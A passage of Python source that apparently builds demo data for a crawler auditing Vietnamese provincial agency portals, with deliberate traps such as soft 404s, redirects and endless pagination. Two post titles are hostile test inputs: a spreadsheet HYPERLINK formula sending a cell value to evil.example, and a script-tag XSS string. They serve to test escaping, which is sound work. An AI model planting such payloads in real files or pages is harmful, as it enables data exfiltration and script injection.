"""The demo's content model: the agencies of Cao Bằng, their portals, and what each reported.

Every trap of DOMAIN.md sits on some (agency, criterion) here; data/demo/README.md lists them.
build.py turns this into pages, site.yaml files, agencies.csv, reports.csv and truth.csv.
"""

from __future__ import annotations

import datetime as dt

from model import Category, Portal, Post

EVIL_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây để xem chi tiết")'
SCRIPT_TITLE = "<script>alert('portal-evidence')</script> Thông báo lịch tiếp công dân"

TITLES = {   # criterion -> title patterns ({n}: a number, {y}: the post's year)
    "gioi-thieu": ["Chức năng, nhiệm vụ, quyền hạn và cơ cấu tổ chức (cập nhật {n})",
                   "Danh sách lãnh đạo và thông tin liên hệ (cập nhật lần {n})",
                   "Quyết định kiện toàn các phòng chuyên môn số {n}/QĐ-UBND"],
    "tin-tuc-su-kien": ["Hội nghị triển khai nhiệm vụ trọng tâm {y}, lần {n}",
                        "Đoàn công tác làm việc tại huyện Trùng Khánh (đợt {n})",
                        "Tập huấn nghiệp vụ cho cán bộ cơ sở năm {y} - lớp {n}",
                        "Kiểm tra tiến độ các công trình trọng điểm, đợt {n}"],
    "chi-dao-dieu-hanh": ["Quyết định số {n}/QĐ-UBND về việc ban hành quy chế làm việc",
                          "Công văn số {n}/UBND-TH về việc triển khai nhiệm vụ năm {y}",
                          "Chỉ thị số {n}/CT-UBND về tăng cường kỷ luật, kỷ cương hành chính",
                          "Lịch công tác tuần {n} năm {y} của Ban Giám đốc"],
    "pho-bien-phap-luat": ["Tuyên truyền Luật Tiếp cận thông tin, kỳ {n}",
                           "Hướng dẫn thực hiện Nghị định số {n}/{y}/NĐ-CP"],
    "chien-luoc-quy-hoach": ["Kế hoạch số {n}/KH-UBND phát triển ngành giai đoạn 2016-2020",
                             "Quy hoạch phát triển đến năm 2025, tầm nhìn 2030 (phần {n})"],
    "van-ban-phap-luat": ["Quyết định số {n}/{y}/QĐ-UBND ban hành quy định quản lý",
                          "Nghị quyết số {n}/{y}/NQ-HĐND về chính sách hỗ trợ"],
    "du-an-dau-tu": ["Thông báo mời thầu gói thầu số {n}: xây lắp công trình đường giao thông",
                     "Kết quả lựa chọn nhà thầu gói thầu số {n}",
                     "Quyết định phê duyệt chủ trương đầu tư dự án số {n}"],
    "khoa-hoc-cong-nghe": ["Đề tài: Nghiên cứu ứng dụng giống lúa mới tại Cao Bằng (mã số {n})",
                           "Nghiệm thu đề tài khoa học cấp tỉnh số {n}/{y}"],
    "lay-y-kien": ["Lấy ý kiến góp ý dự thảo Quyết định quy định số {n}",
                   "Dự thảo Kế hoạch số {n} năm {y} - đề nghị góp ý"],
    "thanh-tra": ["Kết luận thanh tra số {n}/KL-TTr về việc chấp hành pháp luật",
                  "Thông báo kết quả giải quyết khiếu nại số {n}/TB-TTr"],
    "hoi-dap": ["Hỏi về thủ tục cấp phiếu lý lịch tư pháp (câu hỏi {n})",
                "Trả lời kiến nghị của công dân số {n}"],
    "dich-vu-cong": ["Thủ tục cấp giấy phép số {n} - mức độ 3",
                     "Hướng dẫn nộp hồ sơ trực tuyến thủ tục số {n}"],
    "thong-ke": ["Báo cáo số liệu thống kê quý {n} năm {y}",
                 "Số liệu thống kê tình hình thực hiện kế hoạch tháng {n}"],
    "ngan-sach": ["Công khai dự toán ngân sách năm {y} (biểu số {n})",
                  "Công khai quyết toán ngân sách năm {y} (biểu số {n})"],
    None: ["Tin ảnh: hoạt động chào mừng ngày {n}"],
}

_ids = iter(range(1000, 999_999, 7))


def posts(criterion: str | None, in_year: int, older: int, *, newest: tuple[int, int] = (11, 20),
          last_old: dt.date = dt.date(2017, 12, 18), titles: list[str] | None = None) -> list[Post]:
    """`in_year` posts of 2018 (newest first, from `newest` = (month, day) back to January), then `older`
    posts of 2017 and before."""
    out = []
    start = dt.date(2018, *newest)
    span = (start - dt.date(2018, 1, 8)).days
    dates = [start - dt.timedelta(days=span * i // max(in_year, 1)) for i in range(in_year)]
    dates += [last_old - dt.timedelta(days=23 * i) for i in range(older)]
    bank = TITLES[criterion]
    for k, d in enumerate(dates):
        title = (titles[k] if titles and k < len(titles) else
                 bank[k % len(bank)].format(n=len(dates) - k + 3, y=d.year))
        out.append(Post(title, d, next(_ids), summary=f"{title.split(' về ')[0]}: nội dung chi tiết xem tại văn bản."))
    return out


def undated(items: list[Post]) -> list[Post]:
    return [Post(p.title, None, p.id, p.summary) for p in items]


# The introduction text of an agency that publishes what the law asks (Decree 42/2022): functions and duties,
# organisation, its leaders with their titles and contacts, its address, phone and e-mail.
INTRO = ("{name} là cơ quan chuyên môn thuộc Ủy ban nhân dân tỉnh Cao Bằng, có chức năng, nhiệm vụ, quyền hạn "
         "tham mưu, giúp Ủy ban nhân dân tỉnh quản lý nhà nước trong lĩnh vực được giao. Cơ cấu tổ chức gồm Văn "
         "phòng, Thanh tra và các phòng chuyên môn. Lãnh đạo: Giám đốc: Ông Nông Văn Hùng, điện thoại 0915 263 "
         "118; Phó Giám đốc: Bà Hoàng Thị Lan. Trụ sở: Số 10, đường Hoàng Đình Giong, {address}. Điện thoại: "
         "0206 3852 046. Thư điện tử: {email}.")


def C(key: str, criterion: str | None, label: str, items: list[Post], **kw) -> Category:
    return Category(key, criterion, label, items, **kw)


# -- the portals ------------------------------------------------------------------------

STP = Portal("sotuphap.caobang.gov.vn", "drupal", "Sở Tư pháp tỉnh Cao Bằng", categories=[
    C("gioi", "gioi-thieu", "Giới thiệu chung", posts("gioi-thieu", 3, 1, newest=(3, 2)),
      intro=INTRO.format(name="Sở Tư pháp", address="phường Hợp Giang, thành phố Cao Bằng",
                         email="sotuphap@caobang.gov.vn")),
    C("tin", "tin-tuc-su-kien", "Tin tức - Sự kiện",
      posts("tin-tuc-su-kien", 24, 6, titles=["Sở Tư pháp tổ chức hội nghị tổng kết công tác năm 2018", EVIL_TITLE])),
    C("chi-dao", "chi-dao-dieu-hanh", "Chỉ đạo điều hành",
      posts("chi-dao-dieu-hanh", 13, 5, titles=["Kế hoạch công tác tư pháp năm 2019", SCRIPT_TITLE])),
    C("pbpl", "pho-bien-phap-luat", "Phổ biến, giáo dục pháp luật", posts("pho-bien-phap-luat", 6, 2)),
    C("vbqppl", "van-ban-phap-luat", "Văn bản QPPL", posts("van-ban-phap-luat", 0, 8)),
    C("hoidap", "hoi-dap", "Hỏi - Đáp", posts("hoi-dap", 5, 0, newest=(10, 2))),
    C("anh", None, "Thư viện ảnh", posts(None, 4, 0)),
])

STNMT = Portal("sotnmt.caobang.gov.vn", "sharepoint", "Sở Tài nguyên và Môi trường tỉnh Cao Bằng", categories=[
    C("tin", "tin-tuc-su-kien", "Tin hoạt động", posts("tin-tuc-su-kien", 15, 5)),
    C("vbcd", "chi-dao-dieu-hanh", "Văn bản chỉ đạo điều hành", posts("chi-dao-dieu-hanh", 4, 4, newest=(9, 14))),
    C("qh", "chien-luoc-quy-hoach", "Quy hoạch - Kế hoạch", posts("chien-luoc-quy-hoach", 3, 2, newest=(6, 5))),
    C("vbpl", "van-ban-phap-luat", "Văn bản pháp luật", posts("van-ban-phap-luat", 7, 3)),
    C("tk", "thong-ke", "Số liệu thống kê", undated(posts("thong-ke", 4, 2)), listing_dates=False,
      article_dates=False),
    C("tc", "ngan-sach", "Công khai tài chính", posts("ngan-sach", 0, 4, last_old=dt.date(2017, 10, 3))),
    C("tt", "thanh-tra", "Thanh tra", posts("thanh-tra", 2, 3, newest=(8, 1))),
], extra_routes=[
    {"path": "/Pages/ChuyenMuc/88/Thanh-tra-giai-quyet-khieu-nai.html", "soft_404": True,
     "name": "soft-404.html", "note": "soft 404: status 200, 'Không tìm thấy trang'"},
])

HOA_AN = Portal("caobang.gov.vn", "liferay", "UBND huyện Hòa An", prefix="/web/hoa-an", counter="356.118",
                address="Thị trấn Nước Hai, huyện Hòa An, tỉnh Cao Bằng", categories=[
    C("gt", "gioi-thieu", "Giới thiệu", posts("gioi-thieu", 2, 1, newest=(4, 16)),
      intro=INTRO.format(name="Văn phòng HĐND và UBND huyện Hòa An", address="thị trấn Nước Hai, huyện Hòa An",
                         email="hoaan@caobang.gov.vn")),
    C("tin", "tin-tuc-su-kien", "Tin tức - Sự kiện", posts("tin-tuc-su-kien", 14, 4)),
    C("cddh", "chi-dao-dieu-hanh", "Chỉ đạo - Điều hành", posts("chi-dao-dieu-hanh", 5, 3, newest=(10, 30))),
    C("vb", "van-ban-phap-luat", "Văn bản pháp luật", posts("van-ban-phap-luat", 3, 3)),
    C("tthc", "dich-vu-cong", "Thủ tục hành chính", posts("dich-vu-cong", 4, 0)),
    C("ns", "ngan-sach", "Công khai ngân sách", posts("ngan-sach", 2, 2, newest=(7, 20))),
], extra_routes=[
    {"path": "/web/hoa-an/lay-y-kien-du-thao", "status": 302, "location": "http://gopy.caobang.gov.vn/du-thao/hoa-an",
     "note": "a redirect that leaves the portal"},
], robots_disallow=["/web/hoa-an/so-lieu-thong-ke"])

HA_QUANG = Portal("caobang.gov.vn", "liferay", "UBND huyện Hà Quảng", prefix="/web/ha-quang", counter="198.442",
                  address="Thị trấn Thông Nông, huyện Hà Quảng, tỉnh Cao Bằng", categories=[
    C("tin", "tin-tuc-su-kien", "Tin tức", posts("tin-tuc-su-kien", 9, 3, newest=(12, 3))),
    C("cddh", "chi-dao-dieu-hanh", "Thông tin chỉ đạo, điều hành", posts("chi-dao-dieu-hanh", 0, 6)),
    # no introduction text: the page lists its documents only, without its leaders or a phone number
    C("gt", "gioi-thieu", "Cơ cấu tổ chức", posts("gioi-thieu", 1, 2, newest=(2, 9))),
], extra_routes=[
    {"path": "/web/ha-quang/tuyen-truyen-phap-luat", "endless": {
        "param": "_8_INSTANCE_lich_cur", "start": 1, "per_page": 10, "first_date": "2017-12-15", "step_days": 9,
        "template": "ha-quang-lich.html", "label": "Tuyên truyền pháp luật",
        "item": '<div class="asset-abstract"><h3 class="asset-title"><a href="/web/ha-quang/-/asset_publisher/lich/'
                'content/bai-{{ID}}">Tuyên truyền pháp luật kỳ {{N}}</a></h3><span class="metadata-publish-date">'
                '{{DATE}}</span></div>',
        "next": '<a href="/web/ha-quang/tuyen-truyen-phap-luat?_8_INSTANCE_lich_cur={{NEXT_PAGE}}">Trang sau »</a>',
        "date_format": "%d/%m/%Y"}, "note": "endless pagination: every page links a next one"},
])

SYT = Portal("soyte.caobang.gov.vn", "nukeviet", "Sở Y tế tỉnh Cao Bằng", categories=[
    C("tin", "tin-tuc-su-kien", "Tin tức", posts("tin-tuc-su-kien", 11, 4), feed="dead"),
    C("cddh", "chi-dao-dieu-hanh", "Chỉ đạo điều hành", undated(posts("chi-dao-dieu-hanh", 7, 3)),
      listing_dates=False, article_dates=False, feed="live"),
    C("hd", "hoi-dap", "Hỏi đáp", posts("hoi-dap", 4, 2, newest=(8, 8))),
    C("tthc", "dich-vu-cong", "Thủ tục hành chính", posts("dich-vu-cong", 3, 0)),
    C("tt", "thanh-tra", "Thanh tra", posts("thanh-tra", 2, 2, newest=(5, 5))),
])

SGTVT = Portal("sogtvt.caobang.gov.vn", "wordpress", "Sở Giao thông vận tải tỉnh Cao Bằng", categories=[
    C("tin", "tin-tuc-su-kien", "Tin tức", posts("tin-tuc-su-kien", 12, 3), charset_in_meta_only=True),
    C("cddh", "chi-dao-dieu-hanh", "Chỉ đạo điều hành", posts("chi-dao-dieu-hanh", 6, 2), nfd=True),
    C("dt", "du-an-dau-tu", "Thông tin đấu thầu", posts("du-an-dau-tu", 5, 1), fail_times=1),
    C("qh", "chien-luoc-quy-hoach", "Quy hoạch phát triển", posts("chien-luoc-quy-hoach", 2, 1)),
    C("gy", "lay-y-kien", "Góp ý dự thảo văn bản", posts("lay-y-kien", 3, 0, newest=(9, 9))),
], robots_disallow=["/category/quy-hoach-phat-trien/"])

SKHDT = Portal("sokhdt.caobang.gov.vn", "vendor", "Sở Kế hoạch và Đầu tư tỉnh Cao Bằng", categories=[
    C("da", "du-an-dau-tu", "Dự án đầu tư", posts("du-an-dau-tu", 6, 3), listing_dates=False),
    # a project announced in the news only: a list's item found among the posts of another listing
    C("tin", "tin-tuc-su-kien", "Tin tức - Sự kiện", posts("tin-tuc-su-kien", 8, 2, titles=[
        "Hội nghị triển khai nhiệm vụ trọng tâm 2018, lần 13",
        "Khởi công dự án đường tránh phía Tây thành phố Cao Bằng"]), listing_dates=False),
    C("gy", "lay-y-kien", "Lấy ý kiến dự thảo", undated(posts("lay-y-kien", 3, 1)), listing_dates=False,
      article_dates=False),
    C("vb", "van-ban-phap-luat", "Văn bản QPPL", posts("van-ban-phap-luat", 4, 2)),
], extra_routes=[
    {"path": "/chi-dao-dieu-hanh.html", "status": 302, "location": "/", "note": "the category redirects home"},
    {"path": "/bao-cao-thong-ke.html", "generate": {"kind": "oversized", "size": 9_000_000},
     "content_type": "text/html; charset=utf-8", "note": "a 9 MB page, above the 8 MB bound"},
])

SNN = Portal("sonnptnt.caobang.gov.vn", "3cms", "Sở Nông nghiệp và Phát triển nông thôn tỉnh Cao Bằng", categories=[
    C("tin", "tin-tuc-su-kien", "Tin hoạt động", posts("tin-tuc-su-kien", 10, 3), legacy="windows-1258"),
    C("cddh", "chi-dao-dieu-hanh", "Chỉ đạo - Điều hành", posts("chi-dao-dieu-hanh", 3, 3, newest=(6, 28))),
    C("kh", "khoa-hoc-cong-nghe", "Khoa học - Công nghệ", posts("khoa-hoc-cong-nghe", 2, 2, newest=(9, 3))),
    C("tt", "thanh-tra", "Thanh tra", posts("thanh-tra", 1, 1)),
], extra_routes=[
    {"path": "/3cms/thanh-tra-so.htm", "status": 503, "note": "answers 503 every time"},
    {"path": "/3cms/van-ban-phap-quy.htm", "delay": 6, "body": "<html><body>chậm</body></html>",
     "note": "slower than the timeout"},
])

NGUYEN_BINH = Portal("nguyenbinh.caobang.gov.vn", "webforms", "UBND huyện Nguyên Bình", counter="88.310",
                     address="Thị trấn Nguyên Bình, huyện Nguyên Bình, tỉnh Cao Bằng", categories=[
    C("tin", "tin-tuc-su-kien", "Tin tức sự kiện", posts("tin-tuc-su-kien", 8, 2)),
    C("kl", "thanh-tra", "Kết luận thanh tra", posts("thanh-tra", 14, 12)),
    C("vb", "chi-dao-dieu-hanh", "Văn bản chỉ đạo điều hành", posts("chi-dao-dieu-hanh", 5, 1)),
    # a short introduction whose text links its sub-pages (not the menus): they carry the functions, the
    # organisation and the leaders; the footer the address and e-mail
    C("gt", "gioi-thieu", "Giới thiệu", posts("gioi-thieu", 0, 1, last_old=dt.date(2016, 3, 2)),
      intro="Huyện Nguyên Bình nằm ở phía Tây tỉnh Cao Bằng, gồm 20 xã và thị trấn. Xem thêm:", sub_pages=[
          ("Chức năng, nhiệm vụ", "Ủy ban nhân dân huyện Nguyên Bình có chức năng, nhiệm vụ, quyền hạn quản lý "
                                  "nhà nước trên địa bàn huyện theo quy định của pháp luật."),
          ("Cơ cấu tổ chức", "Cơ cấu tổ chức gồm Văn phòng HĐND và UBND huyện và 12 phòng chuyên môn."),
          ("Lãnh đạo UBND huyện", "Chủ tịch UBND huyện: Ông Hoàng Văn Thạch, điện thoại 0915 222 333; "
                                  "Phó Chủ tịch UBND huyện: Bà Lý Thị Hằng."),
      ]),
])

# The province's public-service portal (rulebook: allowed_hosts of dich-vu-cong), not an agency's: each agency's
# procedure list is one page of it, filtered by the agency's code (?donvi=), dated by its last update.
DVC = Portal("dichvucong.caobang.gov.vn", "vendor", "Cổng Dịch vụ công tỉnh Cao Bằng", categories=[
    C("tthc-stp", "dich-vu-cong", "Thủ tục hành chính - Sở Tư pháp", posts("dich-vu-cong", 5, 1, titles=[
        "Cấp Phiếu lý lịch tư pháp cho công dân Việt Nam, người nước ngoài đang cư trú tại Việt Nam",
        "Đăng ký khai sinh có yếu tố nước ngoài", "Chứng thực bản sao từ bản chính giấy tờ, văn bản",
        "Đăng ký hoạt động Văn phòng công chứng", "Cấp lại Thẻ công chứng viên",
        "Thành lập Trung tâm tư vấn pháp luật"]), path="/thu-tuc-hanh-chinh?donvi=stp", in_menu=False),
    # the whole province's list, filtered for no agency: the category, dated, but nobody's own page
    C("tthc-all", "dich-vu-cong", "Thủ tục hành chính", posts("dich-vu-cong", 6, 2, titles=[
        "Cấp giấy phép lái xe", "Đăng ký khai sinh", "Cấp giấy chứng nhận quyền sử dụng đất",
        "Cấp giấy phép xây dựng", "Đăng ký thành lập doanh nghiệp", "Cấp giấy phép kinh doanh vận tải"]),
      path="/thu-tuc-hanh-chinh", in_menu=False),
])

PORTALS = [STP, STNMT, HOA_AN, HA_QUANG, SYT, SGTVT, SKHDT, SNN, NGUYEN_BINH, DVC]
HOSTED = {DVC.host: DVC}        # portals that belong to no agency: a report's target ("hosted", host, category)

AGENCIES = [
    {"agency_id": "stp", "agency_name": "Sở Tư pháp", "group": "so", "portal": "http://sotuphap.caobang.gov.vn",
     "host": STP.host},
    {"agency_id": "stnmt", "agency_name": "Sở Tài nguyên và Môi trường", "group": "so",
     "portal": "http://sotnmt.caobang.gov.vn", "host": STNMT.host},
    {"agency_id": "syt", "agency_name": "Sở Y tế", "group": "so", "portal": "http://soyte.caobang.gov.vn",
     "host": SYT.host},
    {"agency_id": "sgtvt", "agency_name": "Sở Giao thông vận tải", "group": "so",
     "portal": "http://sogtvt.caobang.gov.vn", "host": SGTVT.host},
    {"agency_id": "skhdt", "agency_name": "Sở Kế hoạch và Đầu tư", "group": "so",
     "portal": "http://sokhdt.caobang.gov.vn", "host": SKHDT.host},
    {"agency_id": "snnptnt", "agency_name": "Sở Nông nghiệp và Phát triển nông thôn", "group": "so",
     "portal": "http://sonnptnt.caobang.gov.vn", "host": SNN.host},
    {"agency_id": "sct", "agency_name": "Sở Công Thương", "group": "so", "portal": "http://socongthuong.caobang.gov.vn",
     "host": "socongthuong.caobang.gov.vn"},
    {"agency_id": "hoa-an", "agency_name": "UBND huyện Hòa An", "group": "huyen",
     "portal": "http://caobang.gov.vn/web/hoa-an", "host": "caobang.gov.vn/web/hoa-an"},
    {"agency_id": "ha-quang", "agency_name": "UBND huyện Hà Quảng", "group": "huyen",
     "portal": "http://caobang.gov.vn/web/ha-quang", "host": "caobang.gov.vn/web/ha-quang"},
    {"agency_id": "nguyen-binh", "agency_name": "UBND huyện Nguyên Bình", "group": "huyen",
     "portal": "http://nguyenbinh.caobang.gov.vn", "host": NGUYEN_BINH.host},
    {"agency_id": "thach-an", "agency_name": "UBND huyện Thạch An", "group": "huyen",
     "portal": "http://thachan.caobang.gov.vn", "host": "thachan.caobang.gov.vn"},
]
NO_FORM = {"sct"}         # never sent a form: not verified, not ranked

_BY_KEY = {"caobang.gov.vn/web/hoa-an": HOA_AN, "caobang.gov.vn/web/ha-quang": HA_QUANG}


def portal_of(agency_id: str) -> Portal | None:
    host = next(a["host"] for a in AGENCIES if a["agency_id"] == agency_id)
    return _BY_KEY.get(host) or next((p for p in PORTALS if p.host == host and not p.prefix), None)


def listing(portal: Portal, key: str) -> str:
    return portal.url(portal.listing_path(portal.cat(key), 1))


GOOD = {
    "can-bo-cong-chuc": "45", "may-tinh-can-bo": "43", "ket-noi-internet": "100", "mang-chuyen-dung": "Có",
    "qlvb-dieu-hanh": "92", "van-ban-dien-tu": "78", "thu-cong-vu-cap": "45", "thu-cong-vu-su-dung": "40",
    "chu-ky-so": "Có", "mot-cua-dien-tu": "Có", "tthc-tong-so": "126", "dvc-muc-3-4": "24",
    "ho-so-truc-tuyen": "12,5", "can-bo-cntt": "1", "dao-tao-cntt": "30", "phong-chong-ma-doc": "95",
    "quy-che-attt": "Có", "sao-luu-du-lieu": "Không", "ke-hoach-cntt": "Có", "csdl-chuyen-nganh": "Có",
    "xa-ket-noi-internet": "85",
}
FIGURES = {   # agency -> changes to GOOD: a value, "" (left blank), ("bad", value) (breaks a logic check), ("na", note)
    "stp": {},
    "stnmt": {"may-tinh-can-bo": ("bad", "52")},              # more computers than staff (45)
    "syt": {"ket-noi-internet": ("bad", "120"), "csdl-chuyen-nganh": ("na", "Chưa được giao xây dựng CSDL")},
    "sgtvt": {"dao-tao-cntt": "", "can-bo-cntt": "2", "dvc-muc-3-4": "8"},
    "skhdt": {"sao-luu-du-lieu": "Có", "ho-so-truc-tuyen": "35"},
    "snnptnt": {"thu-cong-vu-su-dung": ("bad", "47")},        # more mailboxes used than given (45)
    "hoa-an": {"can-bo-cong-chuc": "62", "may-tinh-can-bo": "60", "thu-cong-vu-cap": "62", "thu-cong-vu-su-dung": "55"},
    "ha-quang": {"mot-cua-dien-tu": "Không", "xa-ket-noi-internet": "70"},
    "nguyen-binh": {"ket-noi-internet": "96,5"},
    "thach-an": {"dvc-muc-3-4": "3"},
}
SUBMITTED = {"stp": "20/11/2018", "stnmt": "2018-11-22", "syt": "29/11/2018", "sgtvt": "2018-11-26",
             "skhdt": "23/11/2018", "snnptnt": "2018-11-19", "hoa-an": "25/11/2018", "ha-quang": "2018-11-21",
             "nguyen-binh": "26/11/2018", "thach-an": "2018-11-24"}   # syt: after the deadline 26/11/2018

# agency -> criterion -> (URL as reported, what it points at) | ("na", note) | "" (a blank link)
LINKS = {
    "stp": {
        "gioi-thieu": (listing(STP, "gioi"), ("listing", "gioi")),
        "tin-tuc-su-kien": (listing(STP, "tin") + "?utm_source=zalo&utm_medium=share", ("listing", "tin")),
        "chi-dao-dieu-hanh": (listing(STP, "chi-dao").replace("http://", ""), ("listing", "chi-dao")),
        "pho-bien-phap-luat": (listing(STP, "pbpl").replace("sotuphap.caobang", "SoTuPhap.CaoBang") + "#noi-dung",
                               ("listing", "pbpl")),
        "van-ban-phap-luat": (listing(STP, "vbqppl"), ("listing", "vbqppl")),
        "thanh-tra": (STP.url(STP.article_path(STP.cat("chi-dao"), STP.cat("chi-dao").posts[0])), ("article",)),
        "lay-y-kien": ("https://www.facebook.com/sotuphapcaobang", ("off_site",)),
        "khoa-hoc-cong-nghe": ("na", "Sở không được giao chủ trì đề tài khoa học nào trong năm 2018"),
        "hoi-dap": "",
        "dich-vu-cong": (listing(DVC, "tthc-stp"), ("hosted", DVC.host, "tthc-stp")),   # an allowed host
        "danh-muc-vbqppl": (listing(STP, "vbqppl"), ("listing", "vbqppl")),     # a list: its items are looked for
        "chien-luoc-quy-hoach": ("na", ""),
    },
    "stnmt": {
        "tin-tuc-su-kien": (listing(STNMT, "tin"), ("listing", "tin")),
        "chi-dao-dieu-hanh": (listing(STNMT, "tin"), ("listing", "tin")),     # directives posted under news
        "chien-luoc-quy-hoach": (listing(STNMT, "qh"), ("listing", "qh")),
        "van-ban-phap-luat": (listing(STNMT, "vbpl").replace("http://", "http://www."), ("listing", "vbpl")),
        "thong-ke": (listing(STNMT, "tk"), ("listing", "tk")),
        "ngan-sach": (listing(STNMT, "tc"), ("listing", "tc")),
        "du-an-dau-tu": (STNMT.url("/Pages/ChuyenMuc/99/Du-an-dau-tu.html"), ("not_found",)),
        "thanh-tra": (STNMT.url("/Pages/ChuyenMuc/88/Thanh-tra-giai-quyet-khieu-nai.html"), ("soft_404",)),
        "gioi-thieu": (STNMT.url("/"), ("home",)),
        "hoi-dap": "",
    },
    "syt": {
        "tin-tuc-su-kien": (listing(SYT, "tin"), ("listing", "tin")),
        "chi-dao-dieu-hanh": (listing(SYT, "cddh"), ("listing", "cddh")),
        "hoi-dap": (listing(SYT, "hd"), ("listing", "hd")),
        "dich-vu-cong": (listing(SYT, "tthc"), ("listing", "tthc")),
        "thanh-tra": (listing(SYT, "tt"), ("listing", "tt")),
        "gioi-thieu": "",
    },
    "sgtvt": {
        "tin-tuc-su-kien": (listing(SGTVT, "tin"), ("listing", "tin")),
        "chi-dao-dieu-hanh": (listing(SGTVT, "cddh"), ("listing", "cddh")),
        "du-an-dau-tu": (listing(SGTVT, "dt"), ("flaky", "dt")),
        "chien-luoc-quy-hoach": (listing(SGTVT, "qh"), ("robots",)),
        "lay-y-kien": (listing(SGTVT, "gy"), ("listing", "gy")),
        "hoi-dap": "",
        "dich-vu-cong": (listing(DVC, "tthc-all"), ("hosted", DVC.host, "tthc-all")),   # the unfiltered list
    },
    "skhdt": {
        "du-an-dau-tu": (listing(SKHDT, "da"), ("listing", "da")),
        "tin-tuc-su-kien": (listing(SKHDT, "tin"), ("listing", "tin")),
        "lay-y-kien": (listing(SKHDT, "gy"), ("listing", "gy")),
        "van-ban-phap-luat": (listing(SKHDT, "vb"), ("listing", "vb")),
        "chi-dao-dieu-hanh": (SKHDT.url("/chi-dao-dieu-hanh.html"), ("redirect_home",)),
        "thong-ke": (SKHDT.url("/bao-cao-thong-ke.html"), ("oversized",)),
        "dich-vu-cong": (DVC.url("/"), ("home",)),      # the public-service portal's home page names no agency
        "danh-muc-du-an": (listing(SKHDT, "da"), ("listing", "da")),
    },
    "snnptnt": {
        "tin-tuc-su-kien": (listing(SNN, "tin"), ("listing", "tin")),
        "chi-dao-dieu-hanh": (listing(SNN, "cddh"), ("listing", "cddh")),
        "khoa-hoc-cong-nghe": (listing(SNN, "kh"), ("listing", "kh")),
        "thanh-tra": (SNN.url("/3cms/thanh-tra-so.htm"), ("always_503",)),
        "van-ban-phap-luat": (SNN.url("/3cms/van-ban-phap-quy.htm"), ("too_slow",)),
    },
    "hoa-an": {
        "tin-tuc-su-kien": (listing(HOA_AN, "tin"), ("listing", "tin")),
        "chi-dao-dieu-hanh": (listing(HOA_AN, "cddh"), ("listing", "cddh")),
        "van-ban-phap-luat": (listing(HOA_AN, "vb"), ("listing", "vb")),
        "dich-vu-cong": (listing(HOA_AN, "tthc"), ("listing", "tthc")),
        "ngan-sach": (listing(HOA_AN, "ns"), ("listing", "ns")),
        "gioi-thieu": "",
        "lay-y-kien": (HOA_AN.url("/web/hoa-an/lay-y-kien-du-thao"), ("redirect_off_site",)),
        "thong-ke": (HOA_AN.url("/web/hoa-an/so-lieu-thong-ke"), ("robots",)),
    },
    "ha-quang": {
        "tin-tuc-su-kien": (listing(HA_QUANG, "tin"), ("listing", "tin")),
        "chi-dao-dieu-hanh": (listing(HA_QUANG, "cddh"), ("listing", "cddh")),
        "van-ban-phap-luat": (listing(HOA_AN, "vb"), ("off_site",)),          # the other district's path
        "pho-bien-phap-luat": (HA_QUANG.url("/web/ha-quang/tuyen-truyen-phap-luat?_8_INSTANCE_lich_cur=1"),
                               ("endless",)),
    },
    "nguyen-binh": {
        "tin-tuc-su-kien": (listing(NGUYEN_BINH, "tin"), ("listing", "tin")),
        "thanh-tra": (listing(NGUYEN_BINH, "kl"), ("listing", "kl")),
        "chi-dao-dieu-hanh": (listing(NGUYEN_BINH, "vb"), ("listing", "vb")),
        "gioi-thieu": (listing(NGUYEN_BINH, "gt"), ("listing", "gt")),
    },
    "thach-an": {
        "tin-tuc-su-kien": ("thachan.caobang.gov.vn/tin-tuc", ("dead_host",)),
        "chi-dao-dieu-hanh": ("http://thachan.caobang.gov.vn/chi-dao-dieu-hanh", ("dead_host",)),
    },
}


# The lists of the listed criteria (items.csv): agency -> criterion -> items, each with where it is published
# on the agency's portal: "listing" (in the reported category), "search" (only the portal's search page finds
# it), "other_listing" (only among the posts of another category the crawl read) or "never" (not published). Numbers are written as agencies type them (case, Đ/D, dashes, spaces).
ITEMS = {
    "stp": {"danh-muc-vbqppl": [
        {"number": "11/2017/QĐ-UBND", "title": "Quyết định ban hành quy định quản lý", "issued": "18/12/2017",
         "where": "listing"},
        {"number": "10/2017/nq-hđnd", "title": "Nghị quyết về chính sách hỗ trợ", "issued": "2017-11-25",
         "where": "listing"},
        {"number": "9/2017/QD-UBND", "title": "Quyết định ban hành quy định quản lý", "issued": "02/11/2017",
         "where": "listing"},
        {"number": "5/2017/QĐ – UBND", "title": "Quyết định ban hành quy định quản lý", "issued": "02/08/2017",
         "where": "listing"},
        {"number": "12/2018/QĐ-UBND", "title": "Quyết định ban hành quy chế phối hợp quản lý nhà nước về bồi thường "
         "của Nhà nước", "issued": "05/06/2018", "where": "never"},
    ]},
    "skhdt": {"danh-muc-du-an": [
        {"title": "Thông báo mời thầu gói thầu số 12: xây lắp công trình đường giao thông", "issued": "20/11/2018",
         "where": "listing"},
        {"title": "Kết quả lựa chọn nhà thầu gói thầu số 11", "issued": "29/09/2018", "where": "listing"},
        {"title": "QUYẾT ĐỊNH phê duyệt chủ trương đầu tư dự án số 10", "issued": "07/08/2018", "where": "listing"},
        {"title": "Kết quả lựa chọn nhà thầu gói thầu số 5", "issued": "25/11/2017", "where": "listing",
         "url": SKHDT.url(SKHDT.article_path(SKHDT.cat("da"), SKHDT.cat("da").posts[7]))},
        {"title": "Dự án đầu tư xây dựng hạ tầng khu công nghiệp Chu Trinh", "issued": "15/03/2018",
         "where": "search"},
        {"title": "Dự án đường tránh phía Tây thành phố Cao Bằng", "issued": "02/10/2018", "where": "other_listing"},
    ]},
}
# The portals' search pages that find something: host -> (query, the results: (title, path)); any other
# search answers 404 (the demo's search finds nothing else).
SEARCHES = {
    SKHDT.host: [("Dự án đầu tư xây dựng hạ tầng khu công nghiệp Chu Trinh",
                  [("Dự án đầu tư xây dựng hạ tầng khu công nghiệp Chu Trinh", "/du-an/khu-cong-nghiep-chu-trinh")])],
}


def _items() -> list[dict]:
    return [dict(item, agency_id=aid, criterion=cid) for aid, lists in ITEMS.items()
            for cid, items in lists.items() for item in items]


def _reports() -> list[dict]:
    rows = []
    for agency in AGENCIES:
        aid = agency["agency_id"]
        if aid in NO_FORM:
            continue
        base = {"agency_id": aid, "submitted_at": SUBMITTED[aid]}
        for criterion, link in LINKS[aid].items():
            row = dict(base, criterion=criterion, url="")
            if isinstance(link, tuple) and link[0] == "na":
                row.update(not_applicable="x", note=link[1])
            elif link:
                row.update(url=link[0], target=link[1])
            rows.append(row)
        for criterion, good in GOOD.items():
            if criterion == "csdl-chuyen-nganh" and agency["group"] != "so":
                continue
